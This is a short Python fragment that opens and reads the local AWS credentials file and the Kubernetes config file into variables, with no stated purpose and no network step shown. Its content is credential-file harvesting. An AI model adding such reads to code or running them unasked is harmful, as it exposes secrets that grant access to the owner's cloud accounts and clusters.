import os
creds = open(os.path.expanduser("~/.aws/credentials")).read()
kube = open(os.path.join(os.environ["HOME"], ".kube", "config")).read()
